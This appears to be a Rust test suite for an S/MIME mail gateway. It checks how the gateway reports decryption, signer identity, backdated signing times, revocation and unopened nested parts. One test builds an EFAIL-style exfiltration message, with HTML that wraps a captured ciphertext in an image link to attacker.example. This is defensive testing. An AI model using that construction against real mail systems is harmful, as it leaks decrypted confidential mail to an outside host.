//! What the mailbox is told is true, whatever client made the S/MIME:
//! mail made by `openssl cms` and `gpgsm` (run as separate programs against
//! a demo PKI the binary generates) goes through the real gateway, and the
//! `X-SMIME-Gateway` header the mailbox receives is checked layer by
//! layer: S/MIME recognised by file name, every layer taken off in any
//! order, signatures without embedded certificates, the signer against
//! the header From, a signing time that is only a claim, revoked signers,
//! and S/MIME parts left unopened inside a larger multipart. Each case
//! has a control that shows the check can fail.

mod common;

use std::path::Path;
use std::time::Duration;

use base64::Engine;
use common::pki::{self, P7M};
use common::sink::{Received, Script, Sink};
use common::{submit, wait_until, Gateway, Options};

const SECRET: &str = "Fortroligt: sagsakter i sag 2023-117";
const BOB: &str = "bob@example-law.dk";

/// An `[[identity]]` for demo key `name` of the PKI in `dir`.
fn identity_in(dir: &Path, name: &str, mailboxes: &[&str]) -> String {
    let m: Vec<String> = mailboxes.iter().map(|m| format!("\"{m}\"")).collect();
    format!(
        "[[identity]]\npkcs12 = \"{}\"\npassword_file = \"{}\"\nmailboxes = [{}]\n",
        dir.join(format!("keys/{name}.p12")).display(),
        dir.join(format!("keys/{name}.pass")).display(),
        m.join(", ")
    )
}

/// The gateway with the organisation's keys of the PKI in `dir`, its
/// anchors, `trust` added to `[trust]` and `more` after it.
fn gateway_in(sink: &Sink, dir: &Path, trust: &str, more: &str) -> Gateway {
    let mut opts = Options::new(sink.addr);
    opts.extra = format!(
        "{}{}{}\
         [trust]\nanchors = [\"{}\"]\n{trust}\n{more}\n\
         [[mailbox]]\naddress = \"*@example-law.dk\"\ndeliver = \"plain\"\n",
        identity_in(dir, "org-oces2", &[]),
        identity_in(dir, "org-oces3", &[]),
        identity_in(dir, "alice-oces3", &["alice@example-law.dk"]),
        dir.join("trust").display(),
    );
    Gateway::start(opts)
}

fn received_for(sink: &Sink, id: &str) -> Received {
    let needle = format!("<{id}@test>");
    let found = |r: &Received| r.rcpts.iter().any(|x| x == BOB) && r.text().contains(&needle);
    assert!(
        wait_until(Duration::from_secs(30), || sink
            .received()
            .iter()
            .any(found)),
        "nothing for {id}"
    );
    sink.received().into_iter().find(found).unwrap()
}

/// The trace header of a delivered message (unfolded).
fn trace(got: &Received) -> String {
    let text = got.text();
    let (headers, _) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let unfolded = headers.replace("\r\n ", " ").replace("\r\n\t", " ");
    unfolded
        .lines()
        .find_map(|l| l.strip_prefix("X-SMIME-Gateway: "))
        .unwrap_or("")
        .to_string()
}

/// A message from `from` to Bob whose body is the MIME entity `entity`.
fn message(id: &str, from: &str, entity: &[u8]) -> Vec<u8> {
    let mut m =
        format!("From: <{from}>\r\nTo: <{BOB}>\r\nSubject: {id}\r\nMessage-ID: <{id}@test>\r\n")
            .into_bytes();
    m.extend_from_slice(entity);
    m
}

fn send(gw: &Gateway, m: &[u8]) {
    let r = submit(gw, "sender@example.org", &[BOB], m);
    assert_eq!(r.code, 250, "{r:?}");
}

fn b64_lines(der: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(der);
    let mut out = String::new();
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(chunk).unwrap());
        out.push_str("\r\n");
    }
    out
}

/// `content` encrypted to demo certificate `to` of `dir`, as an entity
/// with the Content-* fields given.
fn encrypted_entity(dir: &Path, content: &[u8], to: &str, fields: &str) -> Vec<u8> {
    let cert = dir.join(format!("certs/{to}.pem"));
    let der = pki::openssl(
        &[
            "cms",
            "-encrypt",
            "-binary",
            "-aes-256-cbc",
            "-outform",
            "DER",
            cert.to_str().unwrap(),
        ],
        content,
    );
    format!("MIME-Version: 1.0\r\n{fields}\r\n\r\n{}", b64_lines(&der)).into_bytes()
}

fn p7m(dir: &Path, content: &[u8], to: &str) -> Vec<u8> {
    encrypted_entity(
        dir,
        content,
        to,
        &format!("Content-Type: {P7M}; name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64"),
    )
}

/// A detached `multipart/signed` entity over `content` by demo key
/// `name` of `dir` (`openssl cms -sign`, CRLF), with `extra` options.
fn signed(dir: &Path, content: &[u8], name: &str, extra: &[&str]) -> Vec<u8> {
    let key = dir.join(format!("keys/{name}.key.pem"));
    let cert = dir.join(format!("certs/{name}.pem"));
    let ca = dir.join(format!("crl/{}.pem", pki::issuing_ca(name)));
    let mut args = vec![
        "cms",
        "-sign",
        "-binary",
        "-md",
        "sha256",
        "-signer",
        cert.to_str().unwrap(),
        "-inkey",
        key.to_str().unwrap(),
    ];
    if !extra.contains(&"-nocerts") {
        args.extend(["-certfile", ca.to_str().unwrap()]);
    }
    args.extend_from_slice(extra);
    pki::crlf(&pki::openssl(&args, content))
}

/// A detached `multipart/signed` entity around a detached DER signature
/// made elsewhere (gpgsm) over exactly `content`.
fn multipart_signed(content: &[u8], signature: &[u8]) -> Vec<u8> {
    let mut m = b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"SIG-BOUNDARY\"\r\n\r\n--SIG-BOUNDARY\r\n".to_vec();
    m.extend_from_slice(content);
    m.extend_from_slice(
        b"\r\n--SIG-BOUNDARY\r\nContent-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n",
    );
    m.extend_from_slice(b64_lines(signature).as_bytes());
    m.extend_from_slice(b"--SIG-BOUNDARY--\r\n");
    m
}

/// gpgsm's detached signature over `content` by demo key `name` (imported
/// into `home`), with `--include-certs n` and, when given, a faked
/// system time (what gpgsm then writes as the signing time).
fn gpgsm_sign(
    home: &Path,
    dir: &Path,
    name: &str,
    content: &[u8],
    include_certs: &str,
    at: Option<i64>,
) -> Vec<u8> {
    let fp = pki::sha1_fingerprint(&dir.join(format!("certs/{name}.pem")));
    let data = home.join("to-sign");
    std::fs::write(&data, content).unwrap();
    let at = at.map(|t| t.to_string());
    let mut args = vec![
        "--batch",
        "--homedir",
        home.to_str().unwrap(),
        "--pinentry-mode",
        "loopback",
        "--passphrase-fd",
        "0",
        "--disable-crl-checks",
        "--disable-policy-checks",
        "--include-certs",
        include_certs,
        "-u",
        &fp,
    ];
    if let Some(t) = &at {
        args.extend(["--faked-system-time", t.as_str()]);
    }
    args.extend(["--detach-sign", data.to_str().unwrap()]);
    pki::run("gpgsm", &args, b"demo-only\n")
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

/// The position of `needle` in `hay`, for order checks.
fn at(hay: &str, needle: &str) -> usize {
    hay.find(needle)
        .unwrap_or_else(|| panic!("{needle:?} missing in {hay}"))
}

#[test]
fn smime_named_by_file_name_is_opened_and_other_attachments_are_not() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    let gw = gateway_in(&sink, dir, "", "");
    let inner = pki::inner(SECRET);
    let der = pki::cms_encrypt(&inner, "org-oces2", &["-aes-256-cbc"]);
    let body = b64_lines(&der);
    // KMail-like: the whole body an octet-stream named smime.p7m.
    let kmail = format!(
        "MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}"
    );
    // Outlook-like: the only attachment of a multipart/mixed, named by
    // Content-Disposition alone, in capitals.
    let outlook = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"OL\"\r\n\r\n--OL\r\n\
         Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"SMIME.P7M\"\r\n\r\n{body}\r\n--OL--\r\n"
    );
    // base64 labelled 7bit.
    let seven_bit = format!(
        "MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"smime.p7m\"\r\n\
         Content-Transfer-Encoding: 7bit\r\n\r\n{body}"
    );
    // A detached signature whose signature part is an octet-stream smime.p7s.
    let sig = String::from_utf8(signed(
        dir,
        &pki::inner("signed by name"),
        "alice-oces3",
        &[],
    ))
    .unwrap()
    .replace(
        "Content-Type: application/pkcs7-signature",
        "Content-Type: application/octet-stream",
    );
    assert!(sig.contains("application/octet-stream; name=\"smime.p7s\""));
    // The same CMS bytes in an attachment named report.pdf, alone and next
    // to a text part: known by what they are, not opened, and said so
    // (review 18: a client may open it by a name the gateway read
    // otherwise). Control: a real PDF so named is never touched.
    let pdf = format!(
        "MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"report.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename=\"report.pdf\"\r\n\r\n{body}"
    );
    let pdf_mixed = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"PM\"\r\n\r\n--PM\r\n\
         Content-Type: text/plain\r\n\r\nsee attachment\r\n--PM\r\n\
         Content-Type: application/octet-stream; name=\"report.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n--PM--\r\n"
    );
    let real_pdf =
        "MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"report.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcfsj6IK\r\n";
    let opened = [
        ("kmail", kmail),
        ("outlook", outlook),
        ("seven-bit", seven_bit),
    ];
    for (id, entity) in &opened {
        send(&gw, &message(id, "sender@example.org", entity.as_bytes()));
    }
    send(&gw, &message("p7s", "alice@example-law.dk", sig.as_bytes()));
    // Signed over LF line ends (openssl -binary on a Unix file); SMTP
    // carries it with CRLF.
    let lf_content = b"Content-Type: text/plain\n\nline one\nline two\n";
    let lf_signed = signed(dir, lf_content, "alice-oces3", &[]);
    send(
        &gw,
        &message("lf-signed", "alice@example-law.dk", &lf_signed),
    );
    let disguised = [
        ("pdf", message("pdf", "sender@example.org", pdf.as_bytes())),
        (
            "pdf-mixed",
            message("pdf-mixed", "sender@example.org", pdf_mixed.as_bytes()),
        ),
    ];
    for (_, m) in &disguised {
        send(&gw, m);
    }
    let control = message("real-pdf", "sender@example.org", real_pdf.as_bytes());
    send(&gw, &control);

    for (id, _) in &opened {
        let got = received_for(&sink, id);
        let t = trace(&got);
        assert!(
            t.starts_with("decrypted; key=\"CN=Example Law ApS - sikkermail\"; generation=OCES2"),
            "{id}: {t}"
        );
        assert!(got.text().contains(SECRET), "{id}: {}", got.text());
        assert!(!got.text().contains("smime.p7m"), "{id}: still wrapped");
    }
    let t = trace(&received_for(&sink, "p7s"));
    assert!(
        t.starts_with("signature[1]=valid; signer=\"CN=Alice Andersen") && t.contains("from=exact"),
        "{t}"
    );
    let t = trace(&received_for(&sink, "lf-signed"));
    assert!(
        t.starts_with("signature[1]=valid; signer=\"CN=Alice"),
        "{t}"
    );
    for (id, original) in &disguised {
        let got = received_for(&sink, id);
        let t = trace(&got);
        assert!(
            t.starts_with("encrypted-parts=not-opened; reason="),
            "{id}: {t}"
        );
        assert!(!got.text().contains(SECRET), "{id}: opened");
        let body = |m: &[u8]| {
            let text = String::from_utf8_lossy(m).to_string();
            text.split_once("\r\n\r\n").map(|(_, b)| b.to_string())
        };
        assert_eq!(body(&got.data), body(original), "{id}: changed");
    }
    let got = received_for(&sink, "real-pdf");
    assert_eq!(got.data, control, "a report.pdf was changed");
    assert!(!got.text().contains("X-SMIME-Gateway"));
}

#[test]
fn every_layer_comes_off_in_any_order_and_each_is_reported() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    let gw = gateway_in(&sink, dir, "", "");
    let inner = pki::inner(SECRET);

    // Signed over signed over encrypted: Alice signs what the court
    // signed, which is ciphertext.
    let enc = p7m(dir, &inner, "org-oces2");
    let court = signed(dir, &enc, "court-oces3", &[]);
    let both = signed(dir, &court, "alice-oces3", &[]);
    send(&gw, &message("ssE", "alice@example-law.dk", &both));

    // Encrypted, signed inside: the signature stays for the mail client.
    let sig_in = p7m(dir, &signed(dir, &inner, "alice-oces3", &[]), "org-oces3");
    send(&gw, &message("Es", "alice@example-law.dk", &sig_in));

    // Two signatures inside the encryption: the inner one valid, the
    // outer one broken (the preamble it covers, and the inner does not,
    // was changed).
    let inner_sig = signed(dir, &inner, "alice-oces3", &[]);
    let outer_sig = String::from_utf8(signed(dir, &inner_sig, "alice-oces3", &[])).unwrap();
    let preamble = "This is an S/MIME signed message";
    let (inner_preamble, _) = outer_sig.match_indices(preamble).nth(1).unwrap();
    let outer_sig = format!(
        "{}{preamble}!{}",
        &outer_sig[..inner_preamble],
        &outer_sig[inner_preamble + preamble.len()..]
    );
    let double = p7m(dir, outer_sig.as_bytes(), "org-oces3");
    send(&gw, &message("Ess", "alice@example-law.dk", &double));

    // Two signatures side by side in one SignedData (not layers).
    let parallel = signed(
        dir,
        &inner,
        "alice-oces3",
        &[
            "-signer",
            dir.join("certs/court-oces3.pem").to_str().unwrap(),
            "-inkey",
            dir.join("keys/court-oces3.key.pem").to_str().unwrap(),
        ],
    );
    send(&gw, &message("parallel", "alice@example-law.dk", &parallel));
    send(
        &gw,
        &message("parallel-court", "post@domstol.dk", &parallel),
    );

    // More layers than the bound: seven signatures over plain text.
    let mut deep = inner.clone();
    for _ in 0..7 {
        deep = signed(dir, &deep, "alice-oces3", &[]);
    }
    send(&gw, &message("deep", "alice@example-law.dk", &deep));

    let got = received_for(&sink, "ssE");
    let t = trace(&got);
    assert!(
        got.text().contains(SECRET),
        "still encrypted: {}",
        got.text()
    );
    assert!(!got.text().contains("pkcs7"), "{}", got.text());
    assert!(
        at(&t, "signature[1]=valid; signer=\"CN=Alice Andersen")
            < at(&t, "signature[2]=signer-differs; signer=\"CN=Demo Court")
            && at(&t, "signature[2]=") < at(&t, "decrypted; key=\"CN=Example Law ApS"),
        "{t}"
    );
    assert_eq!(t.matches("over=ciphertext").count(), 2, "{t}");
    assert!(t.contains("generation=OCES2"), "{t}");

    let got = received_for(&sink, "Es");
    let t = trace(&got);
    assert!(
        at(&t, "decrypted; key=") < at(&t, "signature[1]=valid; signer=\"CN=Alice"),
        "{t}"
    );
    assert!(!t.contains("over=ciphertext"), "{t}");
    assert!(got.text().contains("multipart/signed"), "{}", got.text());

    let got = received_for(&sink, "Ess");
    let t = trace(&got);
    assert!(
        at(&t, "decrypted; key=") < at(&t, "signature[1]=invalid")
            && at(&t, "signature[1]=invalid") < at(&t, "signature[2]=valid"),
        "{t}"
    );
    assert!(got.text().contains(SECRET));

    let t = trace(&received_for(&sink, "parallel"));
    assert!(
        t.starts_with("signature[1]=valid; signer=\"CN=Alice")
            && t.contains("parallel-signers=2")
            && !t.contains("signature[2]"),
        "{t}"
    );
    // Whichever comes first in the structure, the signer nearest to From
    // is named.
    let t = trace(&received_for(&sink, "parallel-court"));
    assert!(
        t.starts_with("signature[1]=valid; signer=\"CN=Demo Court")
            && t.contains("from=exact; ")
            && t.contains("parallel-signers=2"),
        "{t}"
    );

    let got = received_for(&sink, "deep");
    let t = trace(&got);
    assert!(
        t.contains("signature[6]=valid")
            && !t.contains("signature[7]")
            && t.ends_with("signed-parts=not-verified; reason=\"more than 6 S/MIME layers\""),
        "{t}"
    );
    assert!(got.data.ends_with(&deep), "a signed message was changed");
}

#[test]
fn signatures_without_certificates_are_checked_with_the_certificates_held() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    // The court's certificate is in the directory; the stranger's nowhere.
    let certs = tempfile::tempdir().unwrap();
    std::fs::copy(
        dir.join("certs/court-oces3.pem"),
        certs.path().join("court.pem"),
    )
    .unwrap();
    let gw = gateway_in(
        &sink,
        dir,
        "",
        &format!("[certificates]\ndirs = [\"{}\"]\n", certs.path().display()),
    );
    let content = pki::inner("no certificates inside");
    let home = pki::gpgsm_home();
    pki::gpgsm_import_key(home.path(), "org-oces2");
    let gpg_sig = gpgsm_sign(home.path(), dir, "org-oces2", &content, "0", None);
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        (
            "nc-identity",
            "alice@example-law.dk",
            signed(dir, &content, "alice-oces3", &["-nocerts"]),
        ),
        (
            "nc-directory",
            "post@domstol.dk",
            signed(dir, &content, "court-oces3", &["-nocerts"]),
        ),
        (
            "nc-gpgsm",
            "sikkermail@example-law.dk",
            multipart_signed(&content, &gpg_sig),
        ),
        // No signed attributes at all: no signing time to claim.
        (
            "nc-noattr",
            "alice@example-law.dk",
            signed(dir, &content, "alice-oces3", &["-nocerts", "-noattr"]),
        ),
        (
            "nc-stranger",
            "stranger@example.org",
            signed(dir, &content, "stranger", &["-nocerts"]),
        ),
        // Controls: the stranger's certificate inside makes a verdict
        // possible; a held certificate still catches changed content.
        (
            "with-stranger",
            "stranger@example.org",
            signed(dir, &content, "stranger", &[]),
        ),
        (
            "nc-tampered",
            "alice@example-law.dk",
            String::from_utf8(signed(dir, &content, "alice-oces3", &["-nocerts"]))
                .unwrap()
                .replacen("no certificates inside", "no certificates INSIDE", 1)
                .into_bytes(),
        ),
    ];
    for (id, from, entity) in &cases {
        send(&gw, &message(id, from, entity));
    }
    let t = |id: &str| trace(&received_for(&sink, id));
    let a = t("nc-identity");
    assert!(
        a.starts_with("signature[1]=valid; signer=\"CN=Alice Andersen"),
        "{a}"
    );
    let c = t("nc-directory");
    assert!(
        c.starts_with("signature[1]=valid; signer=\"CN=Demo Court"),
        "{c}"
    );
    let g = t("nc-gpgsm");
    assert!(
        g.starts_with("signature[1]=valid; signer=\"CN=Example Law ApS - sikkermail"),
        "{g}"
    );
    let n = t("nc-noattr");
    assert!(
        n.starts_with("signature[1]=valid; signer=\"CN=Alice Andersen")
            && n.contains("checked-at=")
            && !n.contains("claimed-signing-time"),
        "{n}"
    );
    let s = t("nc-stranger");
    assert!(
        s.starts_with("signature[1]=unknown-signer; signer-id=\"issuer=")
            && s.contains("from=unknown")
            && !s.contains("invalid"),
        "{s}"
    );
    let w = t("with-stranger");
    assert!(
        w.starts_with("signature[1]=untrusted; signer=\"CN=Unknown Sender"),
        "{w}"
    );
    let x = t("nc-tampered");
    assert!(
        x.starts_with("signature[1]=invalid; signer=\"CN=Alice"),
        "{x}"
    );
}

#[test]
fn a_signer_certificate_nobody_holds_is_asked_of_ldap() {
    let dir = pki::demo();
    let ldap = common::ldap_entries::EntriesSlapd::start(&[(
        "post@domstol.dk",
        &dir.join("certs/court-oces3.pem"),
    )]);
    let sink = Sink::start(Script::default());
    let gw = gateway_in(
        &sink,
        dir,
        "",
        &format!(
            // Not harvested, so each message needs LDAP again.
            "[certificates]\nharvest = false\n\
             [[certificates.ldap]]\nurl = \"ldap://127.0.0.1:{}\"\nbase = \"c=DK\"\ntimeout = \"2s\"\ncache_ttl = \"1s\"\n",
            ldap.port
        ),
    );
    let content = pki::inner("order without certificates");
    let bare = signed(dir, &content, "court-oces3", &["-nocerts"]);
    send(&gw, &message("ldap-found", "post@domstol.dk", &bare));
    // Control: LDAP has nothing for this From, so the signer stays unknown.
    send(&gw, &message("ldap-none", "registry@domstol.dk", &bare));
    let t = trace(&received_for(&sink, "ldap-found"));
    assert!(
        t.starts_with("signature[1]=valid; signer=\"CN=Demo Court - sikkermail")
            && t.contains("from=exact"),
        "{t}"
    );
    let t = trace(&received_for(&sink, "ldap-none"));
    assert!(t.starts_with("signature[1]=unknown-signer"), "{t}");
    // LDAP down: the mail still arrives, the signer unknown, nothing deferred.
    drop(ldap);
    send(&gw, &message("ldap-down", "judge@domstol.dk", &bare));
    let t = trace(&received_for(&sink, "ldap-down"));
    assert!(t.starts_with("signature[1]=unknown-signer"), "{t}");
    assert!(!gw.log().contains("event=\"deferred\""), "{}", gw.log());
}

#[test]
fn the_signer_is_compared_with_from_and_differs_never_reads_valid() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    let metrics_port = common::free_port();
    let gw = gateway_in(
        &sink,
        dir,
        // hard-fail: even so, a signer whose revocation no source answers
        // is reported, never deferred.
        "revocation = \"hard-fail\"\n\
         [[trust.organisation]]\ncvr = \"87654321\"\ndomains = [\"domstol.dk\", \"courts.example\"]\n",
        &format!("[metrics]\nlisten = \"127.0.0.1:{metrics_port}\"\n"),
    );
    let content = pki::inner("court order");
    let by_court = signed(dir, &content, "court-oces3", &[]);
    let cases = [
        ("ceo", "ceo@example-law.dk", "signer-differs", "differs"),
        ("post", "post@domstol.dk", "valid", "exact"),
        ("judge", "judge@domstol.dk", "valid", "same-domain"),
        (
            "registry",
            "registry@courts.example",
            "valid",
            "organisation",
        ),
    ];
    for (id, from, _, _) in &cases {
        send(&gw, &message(id, from, &by_court));
    }
    // Encrypted too: the same holds inside.
    send(
        &gw,
        &message(
            "ceo-enc",
            "ceo@example-law.dk",
            &p7m(dir, &by_court, "org-oces3"),
        ),
    );
    for (id, _, verdict, relation) in &cases {
        let got = received_for(&sink, id);
        let t = trace(&got);
        assert!(
            t.starts_with(&format!(
                "signature[1]={verdict}; signer=\"CN=Demo Court - sikkermail"
            )) && t.contains(&format!("; from={relation};")),
            "{id}: {t}"
        );
        // No revocation source answers for the demo PKI: said, not deferred.
        assert!(t.contains("revocation=unknown"), "{id}: {t}");
    }
    let t = trace(&received_for(&sink, "ceo-enc"));
    assert!(
        t.contains("signature[1]=signer-differs") && !t.contains("=valid"),
        "{t}"
    );
    assert!(!gw.log().contains("event=\"deferred\""), "{}", gw.log());
    let (_, metrics) = common::http_get(&format!("http://127.0.0.1:{metrics_port}/metrics"));
    for line in [
        "smimegw_signatures_total{verdict=\"signer-differs\"} 2",
        "smimegw_signatures_total{verdict=\"valid\"} 3",
    ] {
        assert!(metrics.contains(line), "{line} missing in:\n{metrics}");
    }
}

#[test]
fn a_claimed_signing_time_does_not_revive_expired_or_revoked_signers() {
    // A PKI whose certificates name this test's CRL server.
    let crl_dir = tempfile::tempdir().unwrap();
    let server = common::http::FileServer::start(crl_dir.path().to_path_buf());
    let ocsp_port = common::free_port();
    let pki_dir = pki::demo_with_urls(server.addr.port(), ocsp_port);
    let dir = pki_dir.path();
    for ca in ["oces2-ca", "oces3-ca"] {
        std::fs::copy(
            dir.join(format!("crl/{ca}.crl")),
            crl_dir.path().join(format!("{ca}.crl")),
        )
        .unwrap();
    }
    let sink = Sink::start(Script::default());
    let gw = gateway_in(&sink, dir, "revocation = \"soft-fail\"\n", "");
    let home = pki::gpgsm_home_in(dir);
    for name in ["alice-oces2-expired", "alice-oces2", "bob-oces2-revoked"] {
        pki::gpgsm_import_key_in(home.path(), dir, name);
    }
    let content = pki::inner("signed long ago, they say");
    let day = 86_400;
    let long_ago = now() - 600 * day; // inside the expired certificate's life
    let last_month = now() - 30 * day; // before Bob's certificate was revoked
    let cases = [
        (
            "backdated-expired",
            "alice@example-law.dk",
            "alice-oces2-expired",
            long_ago,
        ),
        (
            "backdated-valid",
            "alice@example-law.dk",
            "alice-oces2",
            long_ago,
        ),
        (
            "backdated-revoked",
            "bob@example-law.dk",
            "bob-oces2-revoked",
            last_month,
        ),
    ];
    for (id, from, name, when) in &cases {
        let sig = gpgsm_sign(home.path(), dir, name, &content, "-2", Some(*when));
        send(&gw, &message(id, from, &multipart_signed(&content, &sig)));
        // The same signer again, once the first is delivered: its chain
        // verdict is kept from the first message by then; the verdict
        // must not change.
        received_for(&sink, id);
        let again = format!("{id}-again");
        send(
            &gw,
            &message(&again, from, &multipart_signed(&content, &sig)),
        );
    }
    let stamp = |t: i64| {
        chrono::DateTime::from_timestamp(t, 0)
            .unwrap()
            .format("%Y-%m-%d")
            .to_string()
    };

    for suffix in ["", "-again"] {
        let t = trace(&received_for(&sink, &format!("backdated-expired{suffix}")));
        assert!(
            t.starts_with("signature[1]=expired; signer=\"CN=Alice Andersen (expired)")
                && t.contains(&format!("claimed-signing-time={}", stamp(long_ago)))
                && t.contains("checked-at=")
                && !t.contains("=valid"),
            "{suffix}: {t}"
        );
        // Control: the same claim by a certificate valid now is valid, and
        // its CA's CRL answered.
        let t = trace(&received_for(&sink, &format!("backdated-valid{suffix}")));
        assert!(
            t.starts_with("signature[1]=valid; signer=\"CN=Alice Andersen")
                && t.contains("revocation=good")
                && t.contains(&format!("claimed-signing-time={}", stamp(long_ago))),
            "{suffix}: {t}"
        );
        let t = trace(&received_for(&sink, &format!("backdated-revoked{suffix}")));
        assert!(
            t.starts_with("signature[1]=revoked; signer=\"CN=Bob Bertelsen (revoked)")
                && t.contains("revocation=revoked")
                && !t.contains("=valid"),
            "{suffix}: {t}"
        );
    }
}

#[test]
fn smime_parts_inside_a_larger_multipart_are_not_opened_and_the_mailbox_is_told() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    let gw = gateway_in(&sink, dir, "", "");
    let inner = pki::inner(SECRET);
    let enc = String::from_utf8(p7m(dir, &inner, "org-oces3")).unwrap();
    let enc_part = enc.trim_start_matches("MIME-Version: 1.0\r\n");
    // EFAIL-like: attacker HTML around the captured encrypted part.
    let efail = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"EF\"\r\n\r\n--EF\r\n\
         Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--EF\r\n{enc_part}\r\n--EF\r\n\
         Content-Type: text/html\r\n\r\n\">\r\n--EF--\r\n"
    );
    let signed_part = String::from_utf8(signed(dir, &pki::inner("signed"), "alice-oces3", &[]))
        .unwrap()
        .replacen("MIME-Version: 1.0\r\n", "", 1);
    let mixed_signed = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"MS\"\r\n\r\n--MS\r\n\
         Content-Type: text/plain\r\n\r\nforwarded:\r\n--MS\r\n{signed_part}\r\n--MS--\r\n"
    );
    // Control: the encrypted part alone in a multipart/mixed is the body.
    let only = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"ON\"\r\n\r\n--ON\r\n{enc_part}\r\n--ON--\r\n"
    );
    let efail_msg = message("efail", "sender@example.org", efail.as_bytes());
    let mixed_msg = message(
        "mixed-signed",
        "alice@example-law.dk",
        mixed_signed.as_bytes(),
    );
    send(&gw, &efail_msg);
    send(&gw, &mixed_msg);
    send(&gw, &message("only", "sender@example.org", only.as_bytes()));

    let got = received_for(&sink, "efail");
    assert!(!got.text().contains(SECRET));
    assert!(got.data.ends_with(&efail_msg), "content changed");
    assert_eq!(
        trace(&got),
        "encrypted-parts=not-opened; reason=\"inside multipart/alternative next to other parts\""
    );
    let got = received_for(&sink, "mixed-signed");
    assert!(got.data.ends_with(&mixed_msg), "content changed");
    assert_eq!(
        trace(&got),
        "signed-parts=not-verified; reason=\"inside multipart/mixed next to other parts\""
    );
    let got = received_for(&sink, "only");
    assert!(got.text().contains(SECRET), "{}", got.text());
    assert!(trace(&got).starts_with("decrypted; key="));
}

#[test]
fn a_certificate_is_harvested_only_from_mail_its_own_address_signed() {
    let sink = Sink::start(Script::default());
    let dir = pki::demo();
    let gw = gateway_in(&sink, dir, "", "");
    let by_court = signed(dir, &pki::inner("court order"), "court-oces3", &[]);
    // Valid, same domain: reported valid, but not kept for post@domstol.dk.
    send(&gw, &message("judge-hv", "judge@domstol.dk", &by_court));
    let t = trace(&received_for(&sink, "judge-hv"));
    assert!(
        t.starts_with("signature[1]=valid") && t.contains("from=same-domain"),
        "{t}"
    );
    assert!(!gw.log().contains("event=\"harvested\""), "{}", gw.log());
    // Control: signed by the From address itself, and sent by it (the
    // envelope sender is the From, as harvest binding requires), it is kept.
    let r = submit(
        &gw,
        "post@domstol.dk",
        &[BOB],
        &message("post-hv", "post@domstol.dk", &by_court),
    );
    assert_eq!(r.code, 250, "{r:?}");
    received_for(&sink, "post-hv");
    assert!(
        wait_until(Duration::from_secs(10), || gw
            .log()
            .contains("event=\"harvested\"")),
        "{}",
        gw.log()
    );
}
